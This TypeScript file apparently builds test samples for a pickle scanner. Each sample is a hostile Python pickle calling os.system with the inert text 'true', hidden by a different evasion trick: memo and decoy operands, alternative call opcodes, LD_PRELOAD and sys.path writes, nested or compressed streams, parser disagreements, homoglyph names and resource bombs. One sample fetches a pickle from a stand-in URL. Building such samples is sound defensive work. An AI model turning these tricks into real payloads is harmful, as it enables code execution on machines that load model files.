import { deflateSync, gzipSync } from 'node:zlib'
import type { Sample } from '../sample.ts'
import { called, joined, named, object, op, type Piece, pickled, type Thing } from './assembler.ts'

/** `os.system` with an inert text, as every trick here ends. */
const system: Piece = op.global('os', 'system')
const args: Piece = joined(op.text('true'), op.tuple1)
const payload = joined(system, args, op.reduce)

type Row = readonly [name: string, bytes: Uint8Array, names?: string, verdict?: 'hold' | 'block']

const zoo = (kind: string, rows: readonly Row[]): Sample[] =>
  rows.map(([name, bytes, names, verdict = 'block']) => ({
    name: `${kind}: ${name}`,
    class: kind,
    files: { 'model.pkl': bytes },
    verdict,
    ...(names === undefined ? { names: 'os.system' } : names === '' ? {} : { names }),
  }))

const stream = (...pieces: readonly Piece[]): Uint8Array => joined(op.proto(4), ...pieces, op.stop)

const operands = zoo('STACK_GLOBAL operands', [
  [
    'from the memo',
    stream(
      op.text('os'),
      op.put(0),
      op.pop,
      op.text('system'),
      op.put(1),
      op.pop,
      op.get(0),
      op.get(1),
      op.stackGlobal,
      args,
      op.reduce,
    ),
  ],
  ['with DUP', stream(op.text('os'), op.dup, op.put(0), op.pop, op.text('system'), op.stackGlobal, args, op.reduce)],
  [
    'decoys popped',
    stream(
      op.text('collections'),
      op.text('OrderedDict'),
      op.pop,
      op.pop,
      op.text('os'),
      op.text('system'),
      op.stackGlobal,
      args,
      op.reduce,
    ),
  ],
  [
    'decoys behind a mark',
    stream(
      op.text('os'),
      op.mark,
      op.text('torch'),
      op.text('device'),
      op.popMark,
      op.text('system'),
      op.stackGlobal,
      args,
      op.reduce,
    ),
  ],
  ['mark popped by POP', stream(op.text('os'), op.mark, op.pop, op.text('system'), op.stackGlobal, args, op.reduce)],
  [
    'copied in the memo',
    stream(
      op.text('os'),
      op.memoize,
      op.put(9),
      op.pop,
      op.text('system'),
      op.memoize,
      op.pop,
      op.get(9),
      op.get(2),
      op.stackGlobal,
      args,
      op.reduce,
    ),
  ],
  [
    'memo written over',
    stream(
      op.text('torch'),
      op.put(0),
      op.pop,
      op.text('os'),
      op.put(0),
      op.pop,
      op.get(0),
      op.text('system'),
      op.stackGlobal,
      args,
      op.reduce,
    ),
  ],
  [
    'PUT and MEMOIZE mixed',
    stream(
      op.text('device'),
      op.line('p', '1'),
      op.pop,
      op.text('os'),
      op.memoize,
      op.pop,
      op.get(1),
      op.text('system'),
      op.stackGlobal,
      args,
      op.reduce,
    ),
  ],
  [
    'computed name',
    stream(
      op.text('os'),
      op.global('builtins', 'str'),
      op.text('system'),
      op.tuple1,
      op.reduce,
      op.stackGlobal,
      args,
      op.reduce,
    ),
    'only the run knows',
  ],
  [
    'computed module',
    stream(
      op.global('builtins', 'str'),
      op.text('os'),
      op.tuple1,
      op.reduce,
      op.text('system'),
      op.stackGlobal,
      args,
      op.reduce,
    ),
    'only the run knows',
  ],
  [
    'bytes for a name',
    stream(op.text('os'), op.bytes(new TextEncoder().encode('system')), op.stackGlobal, args, op.reduce),
    '',
  ],
  [
    'short and long texts',
    stream(
      op.shortText('os'),
      [0x8d, 6, 0, 0, 0, 0, 0, 0, 0],
      new TextEncoder().encode('system'),
      op.stackGlobal,
      args,
      op.reduce,
    ),
  ],
])

const opcodes = zoo('call opcodes', [
  ['REDUCE', stream(payload)],
  ['INST', stream(op.mark, op.text('true'), op.inst('os', 'system'))],
  ['OBJ', stream(op.mark, system, op.text('true'), op.obj)],
  ['OBJ and POP', stream(op.mark, system, op.text('true'), op.obj, op.pop, op.none)],
  ['NEWOBJ', stream(op.global('subprocess', 'Popen'), args, op.newobj), 'subprocess.Popen'],
  ['NEWOBJ_EX', stream(op.global('subprocess', 'Popen'), args, op.dict, op.newobjEx), 'subprocess.Popen'],
  ['EXT1', stream(op.ext1(7), args, op.reduce), 'extension(7)'],
  ['EXT2', stream(op.ext2(700), args, op.reduce), 'extension(700)'],
  ['EXT4', stream(op.ext4(70_000), args, op.reduce), 'extension(70000)'],
  [
    'result of a call is called',
    stream(
      op.global('builtins', 'getattr'),
      op.global('collections', 'OrderedDict'),
      op.text('fromkeys'),
      op.tuple2,
      op.reduce,
      args,
      op.reduce,
    ),
    'getattr',
  ],
  [
    'partial is called',
    stream(op.global('functools', 'partial'), op.global('builtins', 'print'), op.tuple1, op.reduce, args, op.reduce),
    'functools.partial()',
  ],
  ['unused result', stream(payload, op.pop, op.dict)],
  ['unused result behind a mark', stream(op.mark, payload, op.popMark, op.list)],
  ['unused result in the memo', stream(payload, op.put(200), op.pop, op.int(1))],
  ['result as a key', stream(op.dict, payload, op.none, op.item)],
  ['copyreg.__newobj__', pickled(called('copyreg.__newobj__', named('subprocess.Popen'), 'true')), 'subprocess.Popen'],
  [
    'copyreg._reconstructor',
    pickled(called('copyreg._reconstructor', named('mypkg.net.Net'), named('builtins.object'), null)),
    'mypkg.net.Net',
  ],
  [
    'base that runs a constructor',
    pickled(called('copyreg._reconstructor', named('collections.OrderedDict'), named('mypkg.net.Net'), 'true')),
    '',
  ],
  ['persistent id in text', stream(op.persid('os.system')), 'id', 'hold'],
  ['persistent id computed', stream(op.int(5), op.binpersid), 'id', 'hold'],
])

const environ = op.global('os', 'environ')
const modules = op.global('sys', 'modules')
const writes = zoo('attribute writes', [
  [
    'BUILD on a module',
    stream(op.global('torch', 'nn'), op.dict, op.text('load'), op.none, op.item, op.build),
    'torch.nn',
  ],
  [
    'BUILD on a class',
    stream(
      op.global('collections', 'OrderedDict'),
      op.dict,
      op.text('__setitem__'),
      op.global('builtins', 'print'),
      op.item,
      op.build,
    ),
    'collections.OrderedDict',
  ],
  [
    'BUILD with slots on a class',
    stream(
      op.global('torch.nn.modules.linear', 'Linear'),
      op.none,
      op.dict,
      op.text('forward'),
      op.global('builtins', 'print'),
      op.item,
      op.tuple2,
      op.build,
    ),
    'Linear',
  ],
  [
    'BUILD on a function',
    stream(op.global('torch._utils', '_rebuild_tensor_v2'), op.dict, op.text('__code__'), op.none, op.item, op.build),
    '_rebuild_tensor_v2',
  ],
  ['SETITEM on os.environ', stream(environ, op.text('LD_PRELOAD'), op.text('/none'), op.item), 'os.environ'],
  ['SETITEMS on os.environ', stream(environ, op.mark, op.text('PATH'), op.text('/none'), op.items), 'os.environ'],
  ['BUILD on os.environ', stream(environ, op.dict, op.text('PATH'), op.text('/none'), op.item, op.build), 'os.environ'],
  ['SETITEM on sys.modules', stream(modules, op.text('torch'), op.none, op.item), 'sys.modules'],
  ['APPEND on sys.path', stream(op.global('sys', 'path'), op.text('/none'), op.append), 'sys.path'],
  [
    'APPENDS on an attribute',
    stream(
      op.global('builtins', 'getattr'),
      op.global('collections', 'OrderedDict'),
      op.text('__mro__'),
      op.tuple2,
      op.reduce,
      op.mark,
      op.none,
      op.appends,
    ),
    'getattr',
  ],
  [
    'SETITEM on an unknown object',
    stream(op.global('mypkg.registry', 'HOOKS'), op.text('load'), op.none, op.item),
    'mypkg.registry.HOOKS',
  ],
])

const broken = zoo('payload before an error', [
  ['cut behind REDUCE', joined(op.proto(4), payload)],
  ['unknown opcode', joined(op.proto(4), payload, [0xff], op.stop)],
  ['garbage behind', joined(op.proto(4), payload, [0x00, 0x13, 0x37])],
  ['length beyond the end', joined(op.proto(4), payload, [0x58, 0xff, 0xff, 0xff, 0x7f])],
  ['memo that is not there', joined(op.proto(4), payload, op.get(250), op.stop)],
  ['empty stack', joined(op.proto(4), payload, op.pop, op.pop, op.pop, op.stop)],
  [
    'raise behind',
    joined(op.proto(4), payload, op.pop, op.global('builtins', 'int'), op.text('x'), op.tuple1, op.reduce, op.stop),
  ],
  ['protocol 9', joined([0x80, 9], payload, op.stop)],
  ['two protocols', joined(op.proto(4), op.proto(2), payload, op.stop)],
  ['no protocol', joined(payload, op.stop)],
  ['second stream', joined(pickled({ dict: { a: 1 } }), pickled(called('os.system', 'true')))],
  [
    'second stream behind zeros',
    joined(pickled({ dict: { a: 1 } }), new Uint8Array(64), pickled(called('os.system', 'true'))),
  ],
  [
    'second stream behind garbage',
    joined(
      pickled({ dict: { a: 1 } }),
      new TextEncoder().encode('\n-- end --\n'),
      pickled(called('os.system', 'true')),
    ),
  ],
])

const readers = zoo('readers that disagree', [
  ['STRING beyond ASCII', joined(op.proto(0), [0x53, 0x27, 0xe9, 0x27, 0x0a], op.pop, payload, op.stop)],
  ['underscores in INT', joined(op.line('I', '1_0'), op.pop, payload, op.stop)],
  ['LONG without L', joined(op.line('L', '12'), op.pop, payload, op.stop)],
  ['underscores in FLOAT', joined(op.line('F', '1_0.5'), op.pop, payload, op.stop)],
  ['bytes behind the frame', joined(op.proto(4), op.frame(2), op.none, op.stop, payload, op.stop)],
  ['an opcode over the end of a frame', joined(op.proto(4), op.frame(3), op.text('os'), op.pop, payload, op.stop)],
  ['a frame of length 0', joined(op.proto(4), op.frame(0), payload, op.stop)],
  ['a frame beyond the end', joined(op.proto(4), op.frame(9999), payload, op.stop)],
  ['blank in INT', joined(op.line('I', ' 12 '), op.pop, payload, op.stop)],
  ['escapes in a name', joined(op.proto(2), new TextEncoder().encode('cos\r\nsystem\n'), args, op.reduce, op.stop), ''],
])

const packed = pickled(called('os.system', 'true'))
const base64 = Buffer.from(packed).toString('base64')
const nested = zoo('nested programs', [
  ['pickle.loads of bytes', pickled(called('pickle.loads', packed))],
  ['bytes without a loader', pickled({ dict: { state: packed } })],
  ['base64', pickled({ dict: { state: base64 } })],
  ['hex', pickled({ dict: { state: Buffer.from(packed).toString('hex') } })],
  ['zlib', pickled({ dict: { state: deflateSync(packed) } })],
  ['gzip', pickled({ dict: { state: gzipSync(packed) } })],
  ['torch bytes', pickled(called('torch.storage._load_from_bytes', packed))],
  ['three deep', pickled({ dict: { a: pickled({ dict: { b: pickled({ dict: { c: packed } }) } }) } })],
  ['joblib of a path', pickled(called('joblib.load', '/tmp/x')), 'joblib.load'],
  ['pandas of an address', pickled(called('pandas.read_pickle', 'http://example.invalid/x')), 'read_pickle'],
  ['torch of a path', pickled(called('torch.load', '/tmp/x')), 'torch.load'],
  ['marshal', pickled(called('marshal.loads', Uint8Array.of(0xe3, 0, 0, 0, 0))), 'marshal.loads'],
])

const misuse = zoo('listed names misused', [
  ['getattr on a module', pickled(called('builtins.getattr', named('torch.nn'), 'Module')), 'getattr'],
  [
    'getattr for a dunder',
    pickled(called('builtins.getattr', named('collections.OrderedDict'), '__subclasses__')),
    'getattr',
  ],
  [
    'attribute of a known class',
    pickled(called('builtins.getattr', named('torch.nn.modules.linear.Linear'), 'forward')),
    'getattr',
    'hold',
  ],
  ['partial of a denied function', pickled(called('functools.partial', named('os.system'), 'true'))],
  ['partial of a stranger', pickled(called('functools.partial', named('mypkg.run'), 'true')), 'mypkg.run'],
  ['defaultdict of a stranger', pickled(called('collections.defaultdict', named('mypkg.run'))), 'mypkg.run'],
  ['codec that runs', pickled(called('_codecs.encode', 'true', 'zlib')), '_codecs.encode'],
  [
    'type with three arguments',
    pickled(called('builtins.type', 'x', { tuple: [named('builtins.object')] }, { dict: {} })),
    'builtins.type',
  ],
  [
    'array of a stranger',
    pickled(called('numpy.core.multiarray._reconstruct', named('mypkg.Array'), { tuple: [0] }, 'b')),
    'mypkg.Array',
  ],
  [
    'constructor of an estimator',
    pickled(called('sklearn.linear_model._logistic.LogisticRegression', 'l2')),
    'LogisticRegression',
    'hold',
  ],
  ['a score that is called', pickled(called('sklearn.metrics._classification.accuracy_score', 1, 2)), 'accuracy_score'],
  ['an unknown class', pickled(object('mypkg.models.Net', { dict: { a: 1 } })), 'mypkg.models.Net'],
  ['bytes without end', pickled(called('builtins.bytearray', 2 ** 33)), 'bytearray'],
  ['an item of something else', pickled(called('_operator.getitem', named('os.environ'), 'PATH')), 'os.environ'],
  ['an endless iterator', pickled(called('builtins.list', called('itertools.count', 1))), 'itertools.count', 'hold'],
  ['a TorchScript loader', pickled(called('torch.jit._pickle.build_tensor', 1)), 'torch.jit._pickle'],
  [
    'a walk through TorchScript',
    joined(op.proto(2), op.global('__torch__', 'Net.__init__.__globals__'), op.stop),
    '__globals__',
  ],
  ['an unknown function', pickled(called('mypkg.models.load', 'x')), 'mypkg.models.load'],
  ['an unknown name', pickled({ dict: { f: named('mypkg.metrics.score') } }), 'mypkg.metrics.score', 'hold'],
  ['a class in __main__', pickled(object('__main__.Net', { dict: {} })), '__main__.Net'],
  [
    'a listed name in other case',
    pickled(object('sklearn.linear_model._base.linearregression', { dict: {} })),
    'linearregression',
    'hold',
  ],
  [
    'a listed name with a letter more',
    pickled(object('torch.nn.modules.linear.Linear1', { dict: {} })),
    'Linear1',
    'hold',
  ],
  ['an empty name', joined(op.proto(4), op.text('os'), op.text(''), op.stackGlobal, op.stop), ''],
  ['a name with look-alike letters', pickled(object('torch.nn.modules.linear.Lіnear', { dict: {} })), ''],
])

const levels = (depth: number): Thing => (depth === 0 ? 'x' : [levels(depth - 1)])
const laughs = joined(
  op.proto(4),
  op.list,
  op.put(0),
  ...Array.from({ length: 64 }, (_, k) =>
    joined(op.list, op.put(k + 1), op.mark, ...Array.from({ length: 10 }, () => op.get(k)), op.appends),
  ),
  op.stop,
)
const bombs = zoo('bombs', [
  ['lists of the same lists', laughs, '', 'hold'],
  ['marks without end', joined(op.proto(4), new Uint8Array(200_000).fill(0x28), payload, op.stop)],
  ['a memo place far away', joined(op.proto(4), op.none, [0x72, 0xff, 0xff, 0xff, 0x7f], op.pop, payload, op.stop)],
  ['a number of many bytes', joined(op.proto(4), [0x8b, 0xff, 0xff, 0xff, 0x7f], payload, op.stop), '', 'hold'],
  ['bytes of 2^63', joined(op.proto(4), payload, [0x8e, 0, 0, 0, 0, 0, 0, 0, 0x80], op.stop)],
  ['deep lists', joined(op.proto(4), payload, op.pop, new Uint8Array(100_000).fill(0x5d), op.stop)],
  ['a deep value', pickled([levels(500), called('os.system', 'true')])],
  ['a list in itself', joined(op.proto(4), op.list, op.put(0), op.get(0), op.append, op.pop, payload, op.stop)],
])

/** One trick a file. */
export const trickSamples: readonly Sample[] = [
  ...operands,
  ...opcodes,
  ...writes,
  ...broken,
  ...readers,
  ...nested,
  ...misuse,
  ...bombs,
]
